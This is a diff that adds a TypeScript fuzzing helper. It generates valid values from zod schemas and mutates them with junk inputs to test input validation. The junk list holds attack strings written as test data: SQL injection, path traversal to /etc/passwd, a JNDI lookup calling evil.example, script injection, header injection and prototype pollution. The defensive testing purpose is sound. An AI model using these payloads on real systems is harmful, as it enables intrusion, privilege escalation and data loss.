@@ -1,0 +1,138 @@
+import fc from 'fast-check'
+import { z } from 'zod'
+
+type Schema = {
+  readonly [keyword: string]: unknown
+  readonly $defs?: Readonly<Record<string, Schema>>
+  readonly $ref?: string
+  readonly type?: string
+  readonly enum?: readonly unknown[]
+  readonly anyOf?: readonly Schema[]
+  readonly properties?: Readonly<Record<string, Schema>>
+  readonly required?: readonly string[]
+  readonly items?: Schema
+  readonly pattern?: string
+  readonly format?: string
+}
+
+const LONG = 40
+const MANY = 4
+
+/** Values that a schema of the contract takes. */
+export function anyOf(schema: z.ZodType): fc.Arbitrary<unknown> {
+  const root = z.toJSONSchema(schema, { io: 'input' }) as Schema
+  return valuesOf(root, root)
+}
+
+function valuesOf(schema: Schema, root: Schema): fc.Arbitrary<unknown> {
+  const name = schema.$ref?.replace('#/$defs/', '')
+  if (name !== undefined) {
+    const named = root.$defs?.[name]
+    if (named === undefined) throw new TypeError(`${name} is not defined`)
+    return valuesOf(named, root)
+  }
+  if ('const' in schema) return fc.constant(schema.const)
+  if (schema.enum) return fc.constantFrom(...schema.enum)
+  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((one) => valuesOf(one, root)))
+  const make = TYPES[schema.type ?? '']
+  if (make === undefined) throw new TypeError(`Teach this generator ${JSON.stringify(schema)}`)
+  return make(schema, root)
+}
+
+const TYPES: Readonly<Record<string, (schema: Schema, root: Schema) => fc.Arbitrary<unknown>>> = {
+  string: textsOf,
+  boolean: () => fc.boolean(),
+  null: () => fc.constant(null),
+  integer: (s) => fc.integer({ min: Number(s.minimum ?? -1e9), max: Number(s.maximum ?? 1e9) }),
+  number: (s) => fc.double({ min: Number(s.minimum ?? -1e9), max: Number(s.maximum ?? 1e9), noNaN: true }),
+  array: (s, root) =>
+    fc.array(valuesOf(s.items ?? { type: 'null' }, root), {
+      minLength: Number(s.minItems ?? 0),
+      maxLength: Math.min(Number(s.maxItems ?? MANY), Math.max(MANY, Number(s.minItems ?? 0))),
+    }),
+  object: (s, root) =>
+    fc.record(Object.fromEntries(Object.entries(s.properties ?? {}).map(([key, one]) => [key, valuesOf(one, root)])), {
+      requiredKeys: [...(s.required ?? [])],
+    }),
+}
+
+function textsOf({ format, pattern, minLength, maxLength }: Schema): fc.Arbitrary<string> {
+  const matches = new RegExp(pattern ?? '', 'u')
+  const length = { minLength: Number(minLength ?? 0), maxLength: Math.min(Number(maxLength ?? LONG), LONG) }
+  const plain =
+    format === 'uuid'
+      ? fc.uuid({ version: 4 })
+      : format === 'email'
+        ? fc.emailAddress({ size: 'small' })
+        : fc.string({ ...length, unit: 'grapheme' })
+  return plain.filter((text) => matches.test(text) && !text.includes('\0'))
+}
+
+/** Values that belong nowhere: wrong kinds, limits, what breaks databases, shells, logs and prototypes. */
+export const junk: fc.Arbitrary<unknown> = fc.oneof(
+  fc.constantFrom<unknown>(
+    null,
+    true,
+    0,
+    -1,
+    1.5,
+    1e308,
+    Number.MAX_SAFE_INTEGER + 2,
+    '',
+    ' ',
+    '\0',
+    'a\0b',
+    '\ud800',
+    '\r\nset-cookie: a=b',
+    "'; drop table platform.audit; --",
+    '../../../etc/passwd',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup that must stay text
+    '${jndi:ldap://evil.example/a}',
+    '<script>alert(1)</script>',
+    '\u202e\u2066',
+    'x'.repeat(5_000),
+    [],
+    {},
+    [[[[]]]],
+    { $ne: null },
+    { toString: 1 },
+    JSON.parse('{"__proto__":{"isAdmin":true}}'),
+    { constructor: { prototype: { isAdmin: true } } },
+  ),
+  fc.string({ unit: 'binary', maxLength: LONG }),
+  fc.double(),
+  fc.jsonValue({ maxDepth: 3 }),
+)
+
+type Place = readonly (string | number)[]
+
+/** A value with one thing about it spoilt: replaced, taken away or added. It may still be good. */
+export function spoilt(values: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
+  return fc
+    .tuple(values, fc.nat(), junk, fc.constantFrom('replace', 'remove', 'add'), fc.string({ maxLength: 12 }))
+    .map(([value, pick, instead, how, name]) => {
+      const places = [...placesIn(value)]
+      const place = places[pick % places.length] ?? []
+      return change(value, place, (old) => {
+        if (how === 'replace' || typeof old !== 'object' || old === null) return instead
+        if (Array.isArray(old)) return how === 'add' ? [...old, instead] : old.slice(1)
+        const entries = Object.entries(old)
+        return Object.fromEntries(how === 'add' ? [...entries, [name, instead]] : entries.slice(1))
+      })
+    })
+}
+
+function* placesIn(value: unknown, at: Place = []): Generator<Place> {
+  yield at
+  if (typeof value !== 'object' || value === null) return
+  for (const [key, inner] of Object.entries(value))
+    yield* placesIn(inner, [...at, Array.isArray(value) ? Number(key) : key])
+}
+
+function change(value: unknown, [first, ...rest]: Place, to: (old: unknown) => unknown): unknown {
+  if (first === undefined) return to(value)
+  if (Array.isArray(value)) return value.map((item, place) => (place === first ? change(item, rest, to) : item))
+  return Object.fromEntries(
+    Object.entries(value as object).map(([key, inner]) => [key, key === first ? change(inner, rest, to) : inner]),
+  )
+}
